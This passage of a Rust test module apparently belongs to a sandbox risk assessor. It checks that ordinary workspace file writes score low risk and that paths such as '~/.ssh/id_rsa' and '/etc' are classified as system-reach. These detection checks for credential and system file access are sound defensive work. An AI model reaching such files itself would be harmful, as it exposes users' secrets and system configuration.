            assert!(a.level >= RiskLevel::Medium, "{code}");
            assert!(escapes(&a), "{code}");

            let a = strict().assess(&req(lang, code));
            assert_eq!(a.eligible_backends, vec![BackendKind::Container], "{code}");
        }
    }

    #[test]
    fn test_workspace_paths_are_not_escapes() {
        for (lang, code) in [
            (Language::Shell, "echo ok > out.txt; cat out.txt 2>/dev/null >&2"),
            (Language::Shell, "mkdir -p build/x && cp a.txt build/x/ && ls build"),
            (Language::Shell, "sort < in.txt > sorted.txt"),
            (Language::Python, "with open('data.csv', 'w') as f:\n    f.write('x')"),
            (Language::JavaScript, "const fs = require('fs'); fs.writeFileSync('out.json', '{}')"),
        ] {
            let a = strict().assess(&req(lang, code));
            assert_eq!(a.level, RiskLevel::Low, "{code}: {:?}", a.indicators);
        }
    }

    #[test]
    fn test_path_reach() {
        assert_eq!(reach("out/a.txt"), Reach::Inside);
        assert_eq!(reach("/dev/null"), Reach::Inside);
        assert_eq!(reach("./../x"), Reach::Outside);
        assert_eq!(reach("/tmp/x"), Reach::Outside);
        assert_eq!(reach("\"$HOME/../x\""), Reach::Outside);
        assert_eq!(reach("~"), Reach::Outside);
        assert_eq!(reach("~/.ssh/id_rsa"), Reach::System);
        assert_eq!(reach("/etc"), Reach::System);
        assert_eq!(reach("/etcetera/x"), Reach::Outside);
        assert_eq!(reach("$HOMEDIR/x"), Reach::Inside);
    }
}
